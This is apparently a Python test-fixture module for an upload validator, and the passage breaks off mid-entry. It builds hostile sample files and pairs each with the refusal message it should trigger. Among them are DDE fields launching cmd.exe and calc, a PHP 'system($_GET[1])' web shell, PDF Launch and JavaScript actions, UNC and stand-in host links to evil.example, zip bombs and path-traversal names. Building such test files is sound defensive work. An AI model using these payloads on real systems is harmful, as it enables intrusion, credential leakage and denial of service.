"""Hostile files, each with the words of the sentence that refuses it."""

import io
import random
import struct
import zipfile

import pikepdf

from .builders import (
    XLSX,
    D,
    N,
    annotated,
    archive,
    field,
    link,
    linked,
    locked_entry,
    odt,
    ole,
    on_page,
    open_document,
    open_xml,
    pdf,
    picture,
    png_claiming,
    png_with,
    renamed,
    tiff_of,
    uri,
    with_attachment,
    with_deep_launch,
    with_formula,
    with_page_script,
    with_root,
    with_stream,
    word,
    workbook,
    wrong_sum,
)

OPEN_TEXT = "application/vnd.oasis.opendocument.text"
NOT_KEPT = "Such files are not kept"
MISMATCH = "not what the ending"
DAMAGED = "cannot be read safely"
TWO_KINDS = "two kinds at once"
SCRIPT = "contains a script"
PROGRAM = "starts a program"
FILES = "contains other files"
MACROS = "contains macros"
PASSWORD = "protected by a password"
BY_ITSELF = "calls up an address or another file when it is opened"
FETCHES = "fetches a picture, text or data from elsewhere"
LINK = "leads to a folder of another computer"
DDE = r"asks another program for data \(DDE\)"
FORMULA = "A formula in the file fetches data or starts a program"
MEDIA = "contains film, sound or moving pictures"
SENDS = "sends or fetches what is filled in"
ENTITIES = "defines signs of its own"
CUT_OFF = "The end of the file is missing"
OLD = "old office format"
UNPACKED = "unpacks to too much"

PAGE = b"<html><script>alert(1)</script></html>"
UNC = "\\\\evil.example\\share\\a"


def polyglot(content: bytes) -> bytes:
    """An archive behind other content, with its places counted anew, and an ending that a PDF has."""
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as file:
        file.writestr("a.js", "alert(1)")
        file.comment = b"%%EOF\n"
    return out.getvalue()


def behind_start(content: bytes) -> bytes:
    """A PDF with something between its first line and its first object."""
    first, _line, rest = pdf().partition(b"\n")
    return first + b"\n%" + content + b"\n" + rest


def before_list(content: bytes) -> bytes:
    """A PDF that ends with its last object."""
    return content[: content.rindex(b"xref\n", 0, content.rindex(b"startxref"))]


def with_gap(content: bytes) -> bytes:
    """A document with something between its last part and its list of parts."""
    document = open_xml()
    place = document.index(b"PK\x01\x02")
    end = bytearray(document[place:])
    at = end.index(b"PK\x05\x06") + 16
    end[at : at + 4] = struct.pack("<L", place + len(content))
    return document[:place] + content + bytes(end)


def chained(document):
    """An act on opening that turns a page first."""
    return document.make_indirect(
        D(S=N("/GoTo"), D=[0, N("/Fit")], Next=pikepdf.Array([uri("http://a.example")]))
    )


HOSTILE = {
    # Names and endings.
    "nothing": ("a.pdf", lambda: b"", "is empty"),
    "no ending": ("paper", pdf, NOT_KEPT),
    "program": ("a.exe", lambda: b"MZ\x90", NOT_KEPT),
    "two endings": ("order.pdf.exe", pdf, NOT_KEPT),
    "two endings turned round": ("order.exe.pdf", lambda: b"MZ\x90" + bytes(2000), MISMATCH),
    "ending turned round": ("order\u202efdp.exe", pdf, NOT_KEPT),
    "web page": ("a.html", lambda: b"<html>", NOT_KEPT),
    "web page for a phone": ("a.xhtml", lambda: b"<html>", NOT_KEPT),
    "web archive": ("a.mht", lambda: b"MIME-Version: 1.0", NOT_KEPT),
    "drawing with script": ("a.svg", lambda: b"<svg onload=alert(1)>", NOT_KEPT),
    "moving picture": ("a.gif", lambda: picture("GIF"), NOT_KEPT),
    "archive": ("a.zip", lambda: archive(("a", "b")), NOT_KEPT),
    "shortcut": ("a.lnk", lambda: b"L\0\0\0", NOT_KEPT),
    "old document": ("a.doc", lambda: ole("WordDocument"), OLD),
    "old sheet": ("a.xls", lambda: ole("Workbook"), OLD),
    "rich text": ("a.rtf", lambda: rb"{\rtf1{\*\template http://a.example/x}}", OLD),
    "document for macros": ("a.docm", open_xml, MACROS),
    # What begins as something else.
    "program called PDF": ("a.pdf", lambda: b"MZ\x90" + bytes(2000), MISMATCH),
    "picture called PDF": ("a.pdf", lambda: picture("PNG"), MISMATCH),
    "PDF called picture": ("a.jpg", pdf, MISMATCH),
    "archive behind a PNG called JPEG": ("a.jpg", lambda: picture("PNG") + archive(("a", "b")), TWO_KINDS),
    "web page behind a PNG called JPEG": ("a.jpg", lambda: picture("PNG") + PAGE, TWO_KINDS),
    "photograph that no browser shows": (
        "IMG_0042.HEIC",
        lambda: b"\0\0\0\x18ftypheic" + bytes(60),
        "as JPEG",
    ),
    "GIF called PNG": ("a.png", lambda: picture("GIF"), MISMATCH),
    "old document called DOCX": ("a.docx", lambda: ole("WordDocument"), OLD),
    "rich text called DOCX": ("a.docx", lambda: rb"{\rtf1 a}", MISMATCH),
    "document with a password": ("a.docx", lambda: ole("EncryptionInfo", "EncryptedPackage"), PASSWORD),
    "document with a password, of another program": ("a.xlsx", lambda: ole(), PASSWORD),
    "film called WebP": ("a.webp", lambda: b"RIFF\x10\0\0\0AVI LIST" + bytes(8), DAMAGED),
    # Text.
    "web page called text": ("a.txt", lambda: b"  <!DOCTYPE html><script>alert(1)</script>", TWO_KINDS),
    "web page of Notepad called text": ("a.txt", lambda: PAGE.decode().encode("utf-16"), TWO_KINDS),
    "rich text called text": ("a.txt", lambda: rb"{\rtf1 a}", TWO_KINDS),
    "picture and script called text": ("a.txt", lambda: b"GIF89a=1;alert(1)", TWO_KINDS),
    "PDF called text": ("a.txt", pdf, MISMATCH),
    "NUL in text": ("a.txt", lambda: b"abc\x00def", "not in Unicode"),
    "text of Notepad without its mark": ("a.txt", lambda: "स्वीकृत abc".encode("utf-16-le"), "not in Unicode"),
    "text of an old program": ("a.txt", lambda: b"caf\xe9 \xff", "not in Unicode"),
    # PDF: its frame.
    "PDF after a script": ("a.pdf", lambda: b"<script>" + pdf(), TWO_KINDS),
    "PDF after a program": ("a.pdf", lambda: b"\x7fELF" + bytes(90) + pdf(), TWO_KINDS),
    "PDF after a script of a shell": ("a.pdf", lambda: b"\r\n#!/bin/sh\n" + pdf(), TWO_KINDS),
    "PDF after another picture": ("a.pdf", lambda: b"GIF89a" + bytes(40) + pdf(), TWO_KINDS),
    "PDF after a command": ("a.pdf", lambda: b"@echo off\r\ncalc\r\nexit\r\n" + pdf(), TWO_KINDS),
    "PDF after a word of a script": ("a.pdf", lambda: b"alert(1)/*" + pdf(), TWO_KINDS),
    "PDF after the head of a letter": (
        "a.pdf",
        lambda: b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + pdf(),
        TWO_KINDS,
    ),
    "PDF after rich text": ("a.pdf", lambda: rb"{\rtf1 a}" + pdf(), TWO_KINDS),
    "PDF after a picture": ("a.pdf", lambda: picture("PNG") + pdf(), MISMATCH),
    "PDF after too much": ("a.pdf", lambda: b"%" * 1_100 + pdf(), MISMATCH),
    "program behind a PDF": ("a.pdf", lambda: pdf() + b"\nMZ" + bytes(900), TWO_KINDS),
    "too much behind a PDF": ("a.pdf", lambda: pdf() + b"x" * 5_000, TWO_KINDS),
    "PDF cut off in a page": (
        "a.pdf",
        lambda: with_stream(random.Random(7).randbytes(20_000))[:-8_000],
        CUT_OFF,
    ),
    "PDF cut off before its list of parts": ("a.pdf", lambda: before_list(pdf(3)), CUT_OFF),
    "PDF for slow lines, cut off": (
        "a.pdf",
        lambda: pdf(40, linearize=True)[:-1_500],
        "missing|cannot be read",
    ),
    "PDF cut off in what was added": (
        "a.pdf",
        lambda: pdf() + b"9 0 obj<</Length 9000>>stream\n" + bytes(range(256)) * 30,
        CUT_OFF,
    ),
    "PDF of one line": ("a.pdf", lambda: b"%PDF-1.7\n%%EOF", DAMAGED),
    "PDF and archive": ("a.pdf", lambda: pdf() + archive(("a", "b")), TWO_KINDS),
    "PDF and archive that ends as a PDF": ("a.pdf", lambda: polyglot(pdf()), TWO_KINDS),
    "PDF and archive of another kind": ("a.pdf", lambda: pdf() + b"Rar!\x1a\x07\0" + b"%%EOF", TWO_KINDS),
    "PDF and web page": ("a.pdf", lambda: pdf() + PAGE, TWO_KINDS),
    "PDF and web page that ends as a PDF": ("a.pdf", lambda: pdf() + PAGE + b"\n%%EOF\n", TWO_KINDS),
    "PDF and web page at its beginning": ("a.pdf", lambda: behind_start(PAGE), TWO_KINDS),
    "PDF and drawing at its beginning": ("a.pdf", lambda: behind_start(b"<svg onload=alert(1)>"), TWO_KINDS),
    "PDF and script of a server": ("a.pdf", lambda: behind_start(b"<?php system($_GET[1]) ?>"), TWO_KINDS),
    "PDF of no pages": ("a.pdf", lambda: pdf(0), DAMAGED),
    "PDF of too many pages": ("a.pdf", lambda: pdf(1001), "more than 1000 pages"),
    "PDF with password": (
        "a.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
        PASSWORD,
    ),
    # PDF: what it does by itself.
    "PDF with script on opening": (
        "a.pdf",
        lambda: with_root(OpenAction=D(S=N("/JavaScript"), JS="x")),
        SCRIPT,
    ),
    "PDF with named script": (
        "a.pdf",
        lambda: with_root(Names=D(JavaScript=D(Names=pikepdf.Array([])))),
        SCRIPT,
    ),
    "PDF with script on a page": ("a.pdf", lambda: pdf(change=with_page_script), SCRIPT),
    "PDF with hidden script": (
        "a.pdf",
        lambda: pdf(change=with_page_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        SCRIPT,
    ),
    "PDF with a disguised script": (
        "a.pdf",
        lambda: with_root(OpenAction=D(S=N("/JavaScript"), JS="x")).replace(b"/JavaScript", b"/J#61vaScript"),
        SCRIPT,
    ),
    "PDF with script behind a lock": (
        "a.pdf",
        lambda: pdf(change=with_page_script, encryption=pikepdf.Encryption(owner="a", user="")),
        SCRIPT,
    ),
    "PDF with script in a link": ("a.pdf", lambda: annotated(uri("JavaScript:alert(1)")), SCRIPT),
    "PDF that starts a program": (
        "a.pdf",
        lambda: with_root(OpenAction=D(S=N("/Launch"), F="cmd.exe")),
        PROGRAM,
    ),
    "PDF with a program deep inside": ("a.pdf", lambda: pdf(change=with_deep_launch), PROGRAM),
    "PDF that starts a program at a press": (
        "a.pdf",
        lambda: annotated(D(S=N("/Launch"), F="cmd.exe")),
        PROGRAM,
    ),
    "PDF that starts a tool of Windows": ("a.pdf", lambda: annotated(uri("search-ms:query=a")), PROGRAM),
    "PDF that calls up an address": (
        "a.pdf",
        lambda: with_root(OpenAction=uri("http://a.example")),
        BY_ITSELF,
    ),
    "PDF that calls up an address by reference": (
        "a.pdf",
        lambda: with_root(OpenAction=lambda document: document.make_indirect(uri("http://a.example"))),
        BY_ITSELF,
    ),
    "PDF that turns a page and calls up an address": (
        "a.pdf",
        lambda: with_root(OpenAction=chained),
        BY_ITSELF,
    ),
    "PDF with a page that calls up an address": (
        "a.pdf",
        lambda: on_page(AA=D(O=uri("http://a.example"))),
        BY_ITSELF,
    ),
    "PDF with a field that calls up an address": (
        "a.pdf",
        lambda: annotated(AA=D(PV=uri("http://a.example"))),
        BY_ITSELF,
    ),
    "PDF that calls up an address on closing": (
        "a.pdf",
        lambda: with_root(AA=D(WC=uri("http://a.example"))),
        BY_ITSELF,
    ),
    "PDF that opens another on opening": (
        "a.pdf",
        lambda: with_root(OpenAction=D(S=N("/GoToR"), F="b.pdf", D=[0, N("/Fit")])),
        BY_ITSELF,
    ),
    # PDF: other computers.
    "PDF that opens another of another computer": (
        "a.pdf",
        lambda: annotated(D(S=N("/GoToR"), F=UNC, D=[0, N("/Fit")])),
        LINK,
    ),
    "PDF that names another computer": (
        "a.pdf",
        lambda: annotated(D(S=N("/GoToR"), F=D(Type=N("/Filespec"), F="a.pdf", UF="//evil.example/a"))),
        LINK,
    ),
    "PDF with a link to a folder": ("a.pdf", lambda: annotated(uri("file://evil.example/share/a")), LINK),
    "PDF with a link to a folder with four strokes": (
        "a.pdf",
        lambda: annotated(uri("file:////evil.example/share/a")),
        LINK,
    ),
    "PDF that sends a form": (
        "a.pdf",
        lambda: with_root(OpenAction=D(S=N("/SubmitForm"), F="http://a.example")),
        SENDS,
    ),
    "PDF that sends a form at a press": (
        "a.pdf",
        lambda: annotated(D(S=N("/SubmitForm"), F="http://a.example")),
        SENDS,
    ),
    "PDF that takes data in": ("a.pdf", lambda: annotated(D(S=N("/ImportData"), F="a.fdf")), SENDS),
    "PDF with a stream elsewhere": ("a.pdf", lambda: with_stream(F="a.bin"), FETCHES),
    "PDF with a page of another": (
        "a.pdf",
        lambda: with_stream(Type=N("/XObject"), Subtype=N("/Form"), Ref=D(F="b.pdf", Page=0)),
        FETCHES,
    ),
    # PDF: what lies inside.
    "PDF with attachment": ("a.pdf", lambda: pdf(change=with_attachment), FILES),
    "PDF with a paper clip": (
        "a.pdf",
        lambda: annotated(FS=D(Type=N("/Filespec"), F="a", EF=D(F="x"))),
        FILES,
    ),
    "PDF that opens an attachment": ("a.pdf", lambda: annotated(D(S=N("/GoToE"), T=D(R=N("/C")))), FILES),
    "PDF with XFA": (
        "a.pdf",
        lambda: with_root(AcroForm=D(Fields=pikepdf.Array([]), XFA="x")),
        r"only its own program can show \(XFA\)",
    ),
    "PDF with rich media": ("a.pdf", lambda: annotated(RichMediaContent=D()), MEDIA),
    "PDF with a film": ("a.pdf", lambda: annotated(D(S=N("/Rendition"), OP=0)), MEDIA),
    "PDF with a sound": ("a.pdf", lambda: annotated(D(S=N("/Sound"))), MEDIA),
    # Pictures.
    "JPEG cut off": ("a.jpg", lambda: picture("JPEG", (400, 300))[:300], DAMAGED),
    "JPEG and archive": ("a.jpg", lambda: picture("JPEG") + archive(("a", "b")), TWO_KINDS),
    "JPEG and archive with a note": ("a.jpg", lambda: polyglot(picture("JPEG")), TWO_KINDS),
    "JPEG and archive of another kind": (
        "a.jpg",
        lambda: picture("JPEG") + b"Rar!\x1a\x07\0" + bytes(90),
        TWO_KINDS,
    ),
    "JPEG and PDF": ("a.jpg", lambda: picture("JPEG") + pdf(), TWO_KINDS),
    "JPEG and program": ("a.jpg", lambda: picture("JPEG") + b"MZ\x90" + bytes(90), TWO_KINDS),
    "JPEG and web page": ("a.jpg", lambda: picture("JPEG") + PAGE, TWO_KINDS),
    "JPEG with a web page as its note": ("a.jpg", lambda: picture("JPEG", comment=PAGE), TWO_KINDS),
    "JPEG of three bytes": ("a.jpg", lambda: b"\xff\xd8\xff", DAMAGED),
    "PNG and script": ("a.png", lambda: picture("PNG") + PAGE, TWO_KINDS),
    "PNG and archive that ends as a PNG": (
        "a.png",
        lambda: picture("PNG") + archive(("a", "b")) + picture("PNG")[-12:],
        TWO_KINDS,
    ),
    "PNG with a web page as its note": ("a.png", lambda: png_with(PAGE), TWO_KINDS),
    "PNG with a wrong sum": ("a.png", lambda: picture("PNG").replace(b"IDATx", b"IDATy"), DAMAGED),
    "PNG of too many pixels": ("a.png", lambda: png_claiming(60_000, 60_000), "too many pixels"),
    "PNG of rather too many pixels": ("a.png", lambda: png_claiming(12_001, 10_000), "too many pixels"),
    "TIFF of too many pages": ("a.tif", lambda: tiff_of(1001), "more than 1000 pages"),
    "TIFF in circles": ("a.tif", lambda: b"II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00", DAMAGED),
    "TIFF and web page": ("a.tif", lambda: picture("TIFF") + PAGE, TWO_KINDS),
    "TIFF and archive": ("a.tif", lambda: picture("TIFF") + archive(("a", "b")), TWO_KINDS),
    "WebP and web page": ("a.webp", lambda: picture("WEBP") + PAGE, TWO_KINDS),
    "WebP and more": ("a.webp", lambda: picture("WEBP") + b"more", TWO_KINDS),
    # Office documents: the archive.
    "archive called document": ("a.docx", lambda: archive(("a.txt", "a")), DAMAGED),
    "sheet called document": ("a.docx", lambda: open_xml(part="/xl/workbook.xml", kind=XLSX), MISMATCH),
    "document called sheet": ("a.xlsx", open_xml, MISMATCH),
    "ODT called DOCX": ("a.docx", open_document, DAMAGED),
    "DOCX called ODT": ("a.odt", open_xml, DAMAGED),
    "ODS called ODT": ("a.odt", lambda: open_document(kind="spreadsheet"), MISMATCH),
    "document with a locked part": ("a.docx", locked_entry, PASSWORD),
    "ODT with password": (
        "a.odt",
        lambda: open_document(manifest="<m><f><encryption-data/></f></m>"),
        PASSWORD,
    ),
    "ODT with a password, of today": (
        "a.odt",
        lambda: archive(
            ("mimetype", OPEN_TEXT, zipfile.ZIP_STORED),
            ("encrypted-package", bytes(range(256))),
            ("META-INF/manifest.xml", "<m><f><encryption-data/></f></m>"),
        ),
        PASSWORD,
    ),
    "document out of its folder": ("a.docx", lambda: open_xml(("../../etc/cron.d/a", "x")), DAMAGED),
    "document at the root": ("a.docx", lambda: open_xml(("/etc/passwd", "x")), DAMAGED),
    "document with a backslash": ("a.docx", lambda: renamed(b"word/aab.xml", b"..\\..\\b.xml"), DAMAGED),
    "document with NUL in a name": ("a.docx", lambda: renamed(b"word/aab.xml", b"word/a\x00b.xml"), DAMAGED),
    "document with two of one name": (
        "a.docx",
        lambda: renamed(b"word/documenu.xml", b"word/document.xml"),
        DAMAGED,
    ),
    "document with a wrong sum": ("a.docx", wrong_sum, DAMAGED),
    "document after other bytes": ("a.docx", lambda: b"PK\x03\x04" + bytes(50) + open_xml(), TWO_KINDS),
    "document with a comment": ("a.docx", lambda: open_xml(comment=b"<script>"), TWO_KINDS),
    "document and PDF": ("a.docx", lambda: open_xml(("word/a.bin", pdf(), zipfile.ZIP_STORED)), FILES),
    "zip bomb": ("a.docx", lambda: open_xml(("word/a.xml", bytes(15_000_000))), UNPACKED),
    "zip bomb of many parts": (
        "a.docx",
        lambda: open_xml(*((f"word/{n}.bin", (bytes(998) + bytes([n])) * 900) for n in range(250))),
        UNPACKED,
    ),
    "document of too many parts": (
        "a.docx",
        lambda: open_xml(*((f"word/{n}", "") for n in range(5001))),
        UNPACKED,
    ),
    "document with entities": (
        "a.docx",
        lambda: open_xml(content='<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
        ENTITIES,
    ),
    "document with entities from elsewhere": (
        "a.docx",
        lambda: open_xml(("customXml/item1.xml", '<!DOCTYPE x SYSTEM "http://a.example/x.dtd"><x/>')),
        ENTITIES,
    ),
    "ODT with entities": (
        "a.odt",
        lambda: open_document(("styles.xml", "<!DOCTYPE x [<!ENTITY a 'b'>]><x/>")),
        ENTITIES,
    ),
    "document with entities in UTF-16": (
        "a.docx",
        lambda: open_xml(content="<!DOCTYPE x>".encode("utf-16")),
        DAMAGED,
    ),
    "document with entities in UTF-7": (
        "a.docx",
        lambda: open_xml(content='<?xml version="1.0" encoding="UTF-7"?><x>+ADw-</x>'),
        DAMAGED,
    ),
    "document with XML that is none": ("a.docx", lambda: open_xml(content="<a><b></a>"), DAMAGED),
    # Office documents: macros and what lies inside.
    "document with macros": ("a.docx", lambda: open_xml(("word/vbaProject.bin", b"x")), MACROS),
    "document with macros of another name": (
        "a.docx",
        lambda: linked("vbaProject", "a.bin", outside=False),
        MACROS,
    ),
    "document of a macro kind": (
        "a.docx",
        lambda: open_xml(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
        MACROS,
    ),
    "document with a control": ("a.docx", lambda: open_xml(("word/activeX/activeX1.bin", b"x")), MACROS),
    "document with a control of another name": (
        "a.docx",
        lambda: linked("control", "a.xml", outside=False),
        MACROS,
    ),
    "document with buttons of its own": (
        "a.docx",
        lambda: open_xml(("customUI/customUI14.xml", "<x/>")),
        MACROS,
    ),
    "document with buttons of another name": (
        "a.docx",
        lambda: linked("ui/extensibility", "a.xml", outside=False, part="_rels/.rels"),
        MACROS,
    ),
    "document with an add-in": ("a.docx", lambda: linked("webextension", "a.xml", outside=False), SCRIPT),
    "sheet with old macros": ("a.xlsx", lambda: workbook(("xl/macrosheets/sheet1.xml", "<x/>")), MACROS),
    "document with macros in ODT": (
        "a.odt",
        lambda: open_document(("Basic/Standard/Module1.xml", "<x/>")),
        MACROS,
    ),
    "ODT with a script of Python": ("a.odt", lambda: open_document(("Scripts/python/a.py", "x")), MACROS),
    "document with a sheet inside": ("a.docx", lambda: open_xml(("word/embeddings/sheet.xlsx", b"x")), FILES),
    "document with a hostile sheet inside": (
        "a.docx",
        lambda: open_xml(("word/embeddings/sheet.xlsx", with_formula("WEBSERVICE(A1)"))),
        FILES,
    ),
    "document with an object": (
        "a.docx",
        lambda: open_xml(("word/embeddings/oleObject1.bin", ole("Package"))),
        FILES,
    ),
    "document with an object of another name": (
        "a.docx",
        lambda: linked("oleObject", "a.dat", outside=False),
        FILES,
    ),
    "document with an archive inside": (
        "a.docx",
        lambda: open_xml(("word/media/image1.png", archive(("a", "b")))),
        FILES,
    ),
    "document with a program inside": (
        "a.docx",
        lambda: open_xml(("word/media/image1.png", b"MZ\x90")),
        FILES,
    ),
    "document with a web page inside": ("a.docx", lambda: linked("aFChunk", "a.dat", outside=False), FILES),
    "document with a web page as a part": ("a.docx", lambda: open_xml(("word/afchunk.dat", PAGE)), FILES),
    "document with a web archive inside": (
        "a.docx",
        lambda: open_xml(("word/afchunk.mht", b"MIME-Version: 1.0")),
        FILES,
    ),
    "document with rich text inside": ("a.docx", lambda: open_xml(("word/a.dat", rb"{\rtf1 a}")), FILES),
    "document with a drawing that acts": (
        "a.docx",
        lambda: open_xml(
            ("word/media/image1.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
        ),
        SCRIPT,
    ),
    "document with a drawing that fetches": (
        "a.docx",
        lambda: open_xml(
            (
                "word/media/image1.svg",
                '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://a.example/x.png"/></svg>',
            )
        ),
        FETCHES,
    ),
    "document with something between its parts": (
        "a.docx",
        lambda: with_gap(archive(("a.js", "alert(1)"))),
        TWO_KINDS,
    ),
    "document with a film of the web": ("a.docx", lambda: word('<w:webVideoPr w:embeddedHtml="x"/>'), MEDIA),
    # Office documents: what is fetched.
    "document that fetches a template": (
        "a.docx",
        lambda: open_xml(("word/_rels/settings.xml.rels", link("attachedTemplate"))),
        FETCHES,
    ),
    "document with a template of a folder": (
        "a.docx",
        lambda: linked("attachedTemplate", f"file:///{UNC}.dotm"),
        FETCHES,
    ),
    "document that fetches an object": ("a.docx", lambda: linked("oleObject", "http://a.example/x"), FETCHES),
    "document that fetches a picture": ("a.docx", lambda: linked("image", "http://a.example/x.png"), FETCHES),
    "document with a picture of a folder": ("a.docx", lambda: linked("image", UNC), FETCHES),
    "document with a picture that hides its mode": (
        "a.docx",
        lambda: linked("image", "http://a.example/x.png", outside=False),
        FETCHES,
    ),
    "document with a frame": ("a.docx", lambda: linked("frame", "http://a.example"), FETCHES),
    "document with a part of another": ("a.docx", lambda: linked("subDocument", "b.docx"), FETCHES),
    "document that fetches a picture in a drawing": (
        "a.docx",
        lambda: word('<v:shape><v:imagedata src="http://a.example/x.png"/></v:shape>'),
        FETCHES,
    ),
    "document that fetches a picture by a second name": (
        "a.docx",
        lambda: word(f'<v:shape><v:imagedata r:href="rId1" o:href="{UNC}"/></v:shape>'),
        FETCHES,
    ),
    "document with a link to a folder": ("a.docx", lambda: linked("hyperlink", UNC), LINK),
    "document with a link to a script": (
        "a.docx",
        lambda: linked("hyperlink", "java\tscript:alert(1)"),
        SCRIPT,
    ),
    "document with a link to a tool of Windows": (
        "a.docx",
        lambda: linked("hyperlink", "ms-msdt:/id"),
        PROGRAM,
    ),
    # Office documents: fields.
    "document with DDE": ("a.docx", lambda: word(field('DDE cmd "/c calc"')), DDE),
    "document with DDE in pieces": (
        "a.docx",
        lambda: word(field("DD", "EAU", 'TO c:\\\\cmd.exe "/k calc"')),
        DDE,
    ),
    "document with DDE in a simple field": (
        "a.docx",
        lambda: word('<w:fldSimple w:instr=" DDEAUTO cmd"/>'),
        DDE,
    ),
    "document with DDE in a field in a field": (
        "a.docx",
        lambda: word(
            '<w:fldChar w:fldCharType="begin"/><w:instrText>IF 1 = 1 </w:instrText>' + field("DDEAUTO a b")
        ),
        DDE,
    ),
    "document with a field whose kind is computed": (
        "a.docx",
        lambda: word(
            '<w:fldChar w:fldCharType="begin"/>' + field("QUOTE 68 68 69") + "<w:instrText> cmd</w:instrText>"
        ),
        DDE,
    ),
    "document with DDE in its header": (
        "a.docx",
        lambda: open_xml(
            ("word/header1.xml", '<w:hdr xmlns:w="x">' + field("DDEAUTO cmd a") + "</w:hdr>"),
        ),
        DDE,
    ),
    "document with a picture by a field": (
        "a.docx",
        lambda: word(field('INCLUDEPICTURE "http://a.example/x.png" \\d')),
        FETCHES,
    ),
    "document with a picture of a folder by a field": (
        "a.docx",
        lambda: word(field("INCLUDEPICTURE \\\\\\\\evil.example\\\\share\\\\x.png")),
        FETCHES,
    ),
    "document with a picture of a computed address": (
        "a.docx",
        lambda: word(
            '<w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE </w:instrText>' + field("FILENAME")
        ),
        FETCHES,
    ),
    "document with a text by a field": (
        "a.docx",
        lambda: word(field('INCLUDETEXT "c:\\\\secret.docx"')),
        FETCHES,
    ),
    "document with a link by a field": (
        "a.docx",
        lambda: word(field('LINK Excel.Sheet.8 "c:\\\\a.xls"')),
        FETCHES,
    ),
    "document with a data base by a field": ("a.docx", lambda: word(field("DATABASE \\d a")), FETCHES),
    "document with a link to a folder by a field": (
        "a.docx",
        lambda: word(field('HYPERLINK "file://evil.example/a"')),
        LINK,
    ),
    # Sheets.
    "sheet that fetches data": (
        "a.xlsx",
        lambda: with_formula("_xlfn.WEBSERVICE(&quot;http://a.example&quot;&amp;A1)"),
        FORMULA,
    ),
    "sheet that fetches data, disguised": (
        "a.xlsx",
        lambda: with_formula("_xlfn.WEB&#83;ERVICE(A1)"),
        FORMULA,
    ),
    "sheet that fetches a picture": ("a.xlsx", lambda: with_formula("_xlfn.IMAGE(A1)"), FORMULA),
    "sheet with a server": ("a.xlsx", lambda: with_formula("RTD(&quot;a&quot;,,1)"), FORMULA),
    "sheet with a call": ("a.xlsx", lambda: with_formula("CALL(A1)"), FORMULA),
    "sheet with a name that fetches": (
        "a.xlsx",
        lambda: with_formula("_xlfn.WEBSERVICE(A1)", "definedName"),
        FORMULA,
    ),
    "sheet with a rule that fetches": (
        "a.xlsx",
        lambda: with_formula("_xlfn.WEBSERVICE(A1)", "formula1"),
        FORMULA,
    ),
    "sheet that fetches below many lines": (
        "a.xlsx",
        lambda: workbook(
            (
                "xl/worksheets/sheet1.xml",
                "<worksheet>"
                + "<c><v>0.1234567890</v></c>" * 200_000
                + "<c><f>WEBSERVICE(A1)</f></c></worksheet>",
                zipfile.ZIP_STORED,
            )
        ),
        FORMULA,
    ),
    "sheet with DDE": ("a.xlsx", lambda: with_formula("cmd|'/c calc'!A0"), DDE),
    "sheet with DDE behind a sum": (
        "a.xlsx",
        lambda: with_formula("1+MSEXCEL|'\\..\\cmd.exe /c calc'!A0"),
        DDE,
    ),
    "sheet linked by DDE": (
        "a.xlsx",
        lambda: workbook(
            ("xl/externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd"/></externalLink>')
        ),
        DDE,
    ),
    "sheet linked to another computer": (
        "a.xlsx",
        lambda: workbook(
            (
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                link("externalLinkPath", "http://a.example/b.xlsx"),
            )
        ),
        FETCHES,
    ),
    "sheet linked to a folder": (
        "a.xlsx",
        lambda: workbook(
            ("xl/externalLinks/_rels/externalLink1.xml.rels", link("externalLinkPath", f"file:///{UNC}"))
        ),
        FETCHES,
    ),
    "sheet linked to an object": (
        "a.xlsx",
        lambda: workbook(("xl/externalLinks/_rels/externalLink1.xml.rels", link("oleObject", "a.xlsx"))),
        FETCHES,
    ),
    "sheet with a connection": (
        "a.xlsx",
        lambda: workbook(("xl/connections.xml", '<c><webPr url="http://a"/></c>')),
        FETCHES,
    ),
    "sheet with a link to a folder": (
        "a.xlsx",
        lambda: with_formula("HYPERLINK(&quot;\\\\evil.example\\a&quot;,1)"),
        LINK,
    ),
    "sheet with a note that fetches": (
        "a.xlsx",
        lambda: workbook(("xl/drawings/vmlDrawing1.vml", f'<xml><v:fill src="{UNC}"><br></xml>')),
        FETCHES,
    ),
    # ODT and ODS.
    "ODT with a script on opening": (
        "a.odt",
        lambda: odt(
            '<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" '
            'xlink:href="vnd.sun.star.script:a?language=Basic"/></office:event-listeners></office:scripts>'
        ),
        SCRIPT,
    ),
    "ODT with a script of its own": (
        "a.odt",
        lambda: odt('<text:script script:language="JavaScript">x</text:script>'),
        SCRIPT,
    ),
    "ODT with a script in a link": (
        "a.odt",
        lambda: odt('<text:a xlink:href="vnd.sun.star.script:a$b?language=Python">x</text:a>'),
        SCRIPT,
    ),
    "ODT with DDE": (
        "a.odt",
        lambda: odt('<text:dde-connection-decl office:dde-application="soffice"/>'),
        DDE,
    ),
    "ODS with DDE": ("a.ods", lambda: odt("<table:dde-link/>", kind="spreadsheet"), DDE),
    "ODT that fetches a picture": (
        "a.odt",
        lambda: odt('<draw:image xlink:href="http://a.example/x.png"/>'),
        FETCHES,
    ),
    "ODT with a picture of a folder": (
        "a.odt",
        lambda: odt('<draw:image xlink:href="file://evil.example/x"/>'),
        LINK,
    ),
    "ODT that fetches a section": (
        "a.odt",
        lambda: odt('<text:section-source xlink:href="http://a.example"/>'),
        FETCHES,
    ),
    "ODT with a frame": ("a.odt", lambda: odt('<draw:floating-frame xlink:href="a"/>'), FETCHES),
    "ODT with a program": ("a.odt", lambda: odt('<draw:applet xlink:href="a"/>'), PROGRAM),
    "ODT with a template of the web": (
        "a.odt",
        lambda: open_document(
            ("meta.xml", '<m xmlns:l="x"><template l:href="http://a.example/t.ott"/></m>'),
        ),
        FETCHES,
    ),
    "ODT with a link to a folder": ("a.odt", lambda: odt(f'<text:a xlink:href="{UNC}">x</text:a>'), LINK),
    "ODT with an object": ("a.odt", lambda: open_document(("Object 1", ole("Package"))), FILES),
    "ODS that fetches data": (
        "a.ods",
        lambda: odt(
            '<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE([.A1])"/>', kind="spreadsheet"
        ),
        FORMULA,
    ),
    "ODS with DDE in a formula": (
        "a.ods",
